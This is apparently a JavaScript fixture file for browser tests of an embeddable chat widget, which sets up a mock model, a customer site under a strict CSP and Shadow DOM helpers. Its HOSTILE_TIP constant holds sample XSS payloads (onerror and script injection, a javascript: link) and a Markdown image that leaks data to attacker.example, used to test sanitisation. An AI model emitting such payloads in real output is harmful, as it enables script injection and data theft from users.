// Fixtures of the widget's browser tests: a customer's site on its own origin (serving a page
// that embeds the widget from the hub, under a strict CSP), the hub configured with that site's
// key, the mock model, and small helpers that read the widget's Shadow DOM.


import { startHub, startMockLlm, startSite } from './harness.mjs';

export const SITE_KEY = 'riverside';

/** The mock model's one sentence, cycled to `words` words, as it streams it. */
export function mockAnswer(words) {
  const sentence = 'This is the mock model answering with one steady sentence so that every client and test can count the words it streams back.'.split(' ');
  return Array.from({ length: Math.max(words, 20) }, (_, i) => sentence[i % sentence.length]).join(' ');
}

/** What the `houseTip` function answers: Markdown with every hostile thing a model could say. */
export const HOSTILE_TIP = [
  'Brush **twice a day** and *floss*, see `tip-42` [our guide](https://riverside.example/guide).',
  '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>',
  '![tracker](https://attacker.example/leak?q=secret) [click](javascript:window.__pwned=3)',
  '',
  '- first step',
  '- second step',
  '',
  '```',
  '<b>not bold</b>',
  '```',
  '',
  "That's all", // the mock model adds ". " after a tool result: the fence must close before it
].join('\n');

/**
 * Starts the mock model, a customer site and a hub whose `[[widgets]]` key allows that site.
 * The site serves `/` (a page embedding the widget; query parameters become `data-` attributes,
 * `hub=` overrides the script's hub) and `/tip` (an HTTP function the model may call).
 * Whatever started is stopped again if a later piece fails to start.
 */
export async function startWorld() {
  const started = [];
  const world = { hubUrl: null };
  try {
    const mock = await startMockLlm(['--chunks', '24', '--chunk-delay-ms', '30']);
    started.push(mock);
    const site = await startSite(sitePages(world));
    started.push(site);
    const other = await startSite(sitePages(world)); // an origin the key does not allow
    started.push(other);
    const hub = await startHub({ toml: hubToml(mock.baseUrl, site) });
    started.push(hub);
    world.hubUrl = hub.url;
    return { mock, site, other, hub, stop: () => stopAll(started) };
  } catch (e) {
    await stopAll(started);
    throw e;
  }
}

async function stopAll(things) {
  for (const t of things.reverse()) await t.stop().catch(() => {});
}

function hubToml(mockUrl, site) {
  return `
[chat]
openai_base_url = "${mockUrl}"
retries = 0
tools = ["houseTip"]
rate_ip_per_minute = 6000
rate_ip_burst = 1000
rate_session_per_minute = 6000
rate_session_burst = 1000

[[functions]]
name = "houseTip"
description = "Today's dental tip."
url = "${site.url}/tip"
parameters = { type = "object", properties = {} }

[[widgets]]
site_key = "${SITE_KEY}"
name = "Riverside Dental"
allowed_origins = ["${site.origin}"]

[[widgets]]                 # the hub's own /demo/ page (same origin)
site_key = "demo"
name = "Riverside Dental"
allowed_origins = ["${site.origin}"]
`;
}

function sitePages(world) {
  return {
    '/': (req, res) => {
      const q = new URL(req.url, 'http://x').searchParams;
      const hub = q.get('hub') || world.hubUrl;
      const attrs = new Map([['site-key', SITE_KEY]]);
      for (const [k, v] of q) attrs.set(k, v); // `hub` too: it becomes data-hub
      const data = [...attrs].map(([k, v]) => `data-${k}="${escapeAttr(v)}"`).join(' ');
      const body = `<!doctype html><html lang="en"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Riverside Dental</title><link rel="stylesheet" href="/site.css"></head>
<body><h1>Riverside Dental</h1><p><a href="#x" id="page-link">A link on the page</a></p>
<script src="${hub}/widget.js" ${data} async></script></body></html>`;
      // The strictest CSP a customer could reasonably set: no inline script or style anywhere.
      const csp = `default-src 'none'; script-src ${hub}; style-src 'self'; connect-src ${hub}; img-src 'self'`;
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': csp });
      res.end(body);
    },
    '/site.css': { body: 'body{font-family:Georgia,serif;color:#333}\n:root{--sb-accent:rgb(200, 40, 90)}\n', type: 'text/css' },
    '/tip': (req, res) => {
      req.resume();
      req.on('end', () => {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ result: HOSTILE_TIP }));
      });
    },
  };
}

function escapeAttr(v) {
  return String(v).replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
}

/** A page of a fresh context on `url`, with CSP violations and console warnings recorded. */
export async function openPage(browser, url, contextOptions = {}) {
  const context = await browser.newContext(contextOptions);
  const page = await context.newPage();
  page.warnings = [];
  page.on('console', (m) => { if (m.type() === 'warning' || m.type() === 'error') page.warnings.push(m.text()); });
  page.on('pageerror', (e) => page.warnings.push(`pageerror: ${e.message}`));
  await page.addInitScript(() => {
    window.__violations = [];
    window.addEventListener('switchboard:ready', () => { window.__sbReady = true; });
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  await page.goto(url);
  return { context, page };
}

/** Resolves once the page has logged a warning or error matching `pattern` (or already had). */
export async function waitForWarning(page, pattern, timeout = 10000) {
  if (page.warnings.some((w) => pattern.test(w))) return;
  await page.waitForEvent('console', { predicate: (m) => pattern.test(m.text()), timeout });
}

/** Waits until the widget has asked the hub and shown itself (`ready`). */
export async function widgetReady(page) {
  await page.waitForFunction(() => window.__sbReady === true, null, { timeout: 10000 });
}

/** Types `text` into the widget and sends it with Enter. */
export async function sendMessage(page, text) {
  const input = page.locator('switchboard-widget textarea');
  await input.fill(text);
  await input.press('Enter');
}

export const lastAssistant = (page) => page.locator('switchboard-widget .msg.assistant:not(.welcome)').last();

/** The last assistant message: `{ text, status }`. */
export async function readLastAssistant(page) {
  return page.evaluate(() => {
    const all = document.querySelector('switchboard-widget').shadowRoot.querySelectorAll('.msg.assistant:not(.welcome)');
    const m = all[all.length - 1];
    return m ? { text: m.querySelector('.bubble').textContent, status: m.dataset.status, meta: m.querySelector('.meta').textContent } : null;
  });
}

/** Waits for the last assistant message to reach `status` (complete, stopped, failed). */
export async function waitForStatus(page, status, timeout = 15000) {
  await page.waitForFunction((s) => {
    const all = document.querySelector('switchboard-widget')?.shadowRoot.querySelectorAll('.msg.assistant:not(.welcome)');
    return all && all.length && all[all.length - 1].dataset.status === s;
  }, status, { timeout });
  return readLastAssistant(page);
}

/** Waits until the streaming answer shows at least `words` words. */
export async function waitForWords(page, words, timeout = 15000) {
  await page.waitForFunction((n) => {
    const all = document.querySelector('switchboard-widget')?.shadowRoot.querySelectorAll('.msg.assistant:not(.welcome)');
    const m = all && all[all.length - 1];
    return m && m.dataset.status === 'streaming' && m.querySelector('.bubble').textContent.trim().split(/\s+/).filter(Boolean).length >= n;
  }, words, { timeout });
}

/** The element focused inside the widget's shadow root, described as `tag.class` or `#id`. */
export async function focused(page) {
  return page.evaluate(() => {
    const host = document.querySelector('switchboard-widget');
    if (document.activeElement !== host) return `outside:${document.activeElement?.tagName}`;
    const el = host.shadowRoot.activeElement;
    return el ? `${el.tagName.toLowerCase()}${el.id ? '#' + el.id : ''}.${el.className}` : 'none';
  });
}
